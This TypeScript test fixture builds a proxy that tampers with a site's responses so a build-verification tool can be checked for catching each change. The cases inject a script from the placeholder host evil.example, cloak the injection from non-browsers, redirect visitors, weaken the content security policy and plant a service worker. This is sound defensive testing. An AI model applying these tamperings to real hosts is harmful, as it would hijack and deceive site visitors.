/** Hosts that show something else than what was built, each in its own way. */
import {createServer, type Server} from 'node:http';
import {BUILD_RECORD, type BuildRecord} from '../../src/node/build-record';

interface Asked {
  path: string;
  isBrowser: boolean;
}

interface Told {
  status: number;
  headers: Headers;
  body: Uint8Array;
}

interface Dishonest {
  /** What the host does; the title of its test goes on from "a host is told that". */
  does: string;
  spoil: (answer: Told, asked: Asked) => void;
  /** A sentence that names it. */
  says: RegExp;
}

const isPage = ({headers}: Told) => headers.get('content-type')?.startsWith('text/html') === true;
const EVIL = 'https://evil.example';
const withScript = (body: Uint8Array) =>
  Buffer.from(`${Buffer.from(body).toString()}<script src="${EVIL}/x.js"></script>`);

const header =
  (name: string, value: string, where = isPage) =>
  (answer: Told): void => {
    if (where(answer)) answer.headers.set(name, value);
  };

export const DISHONEST: Dishonest[] = [
  {
    does: 'serves a build of another kind than its record says',
    spoil(answer, {path}) {
      if (path !== BUILD_RECORD) return;
      const record = JSON.parse(Buffer.from(answer.body).toString()) as BuildRecord;
      answer.body = Buffer.from(JSON.stringify({...record, kind: 'preview'}));
    },
    says: /^\/\.well-known\/build\.json says that the build is a preview one; made again it is a production one\.$/,
  },
  {
    does: 'leads all visitors elsewhere by a header',
    spoil: header('Refresh', `0; url=${EVIL}`),
    says: /^\/about has a header that the build does not give it: refresh: 0; url=https:\/\/evil\.example$/,
  },
  {
    does: 'lets browsers report to somebody else',
    spoil: header('Reporting-Endpoints', `default="${EVIL}/r"`),
    says: /^\/about has a header that the build does not give it: reporting-endpoints: /,
  },
  {
    does: 'lets browsers tell somebody else of faults of the network',
    spoil: header('NEL', '{"report_to":"default","max_age":2592000}'),
    says: /^\/about has a header that the build does not give it: nel: /,
  },
  {
    does: 'leads a former address to the same path of another site',
    spoil({headers}) {
      const location = headers.get('location');
      if (location !== null) headers.set('location', EVIL + location);
    },
    says: /^\/about\/our-story does not lead to \/about\/history\.$/,
  },
  {
    does: 'shows people another editor than programs',
    spoil(answer, {path, isBrowser}) {
      if (path === '/edit' && isBrowser) answer.body = withScript(answer.body);
    },
    says: /^For browsers alone: \/edit differs from what was built\.$/,
  },
  {
    does: 'shows people a weaker policy than programs',
    spoil({headers}, {path, isBrowser}) {
      if (path === '/edit' && isBrowser) headers.set('content-security-policy', "default-src 'self' *");
    },
    says: /^For browsers alone: \/edit has the header content-security-policy: default-src 'self' \* in place of: /,
  },
  {
    does: 'adds a script to every page',
    spoil(answer) {
      if (isPage(answer)) answer.body = withScript(answer.body);
    },
    says: /^\/about differs from what was built\.$/,
  },
  {
    does: 'sets a cookie',
    spoil: header('Set-Cookie', 'visitor=1'),
    says: /^\/about has a header that the build does not give it: set-cookie: visitor=1$/,
  },
  {
    does: 'fetches something from elsewhere ahead of a page',
    spoil: header('Link', `<${EVIL}/x.js>; rel=preload; as=script`),
    says: /^\/about has the header link: <https:\/\/evil\.example\/x\.js>/,
  },
  {
    does: 'lets browsers keep a page for a year',
    spoil: header('Cache-Control', 'public, max-age=31536000'),
    says: /^\/about may be kept: cache-control: public, max-age=31536000$/,
  },
  {
    does: 'hides the site from search engines',
    spoil: header('X-Robots-Tag', 'noindex'),
    says: /^\/about has a header that the build does not give it: x-robots-tag: noindex$/,
  },
  {
    does: 'brings a program that stays in the browser',
    spoil(answer, {path}) {
      if (path === '/sw.js') Object.assign(answer, {status: 200, body: Buffer.from('self.onfetch = () => 0')});
    },
    says: /^\/sw\.js is extra: the build has no such file\.$/,
  },
  {
    does: 'keeps a page back',
    spoil(answer, {path}) {
      if (path === '/privacy') answer.status = 404;
    },
    says: /^\/privacy is missing\.$/,
  },
];

/** Serves what an honest host answers, spoilt. */
export function dishonest(honest: string, {spoil}: Pick<Dishonest, 'spoil'>): Server {
  return createServer((request, response) => {
    const path = request.url ?? '/';
    const asked = {path, isBrowser: request.headers['user-agent']?.includes('Mozilla') === true};
    void fetch(honest + path, {redirect: 'manual', headers: {'Accept-Encoding': 'identity'}}).then(async (found) => {
      const body = new Uint8Array(await found.arrayBuffer());
      const answer: Told = {status: found.status, headers: new Headers(found.headers), body};
      answer.headers.delete('content-encoding');
      answer.headers.delete('transfer-encoding');
      spoil(answer, asked);
      answer.headers.set('content-length', String(answer.body.length));
      response.writeHead(answer.status, Object.fromEntries(answer.headers));
      response.end(answer.body);
    });
  });
}
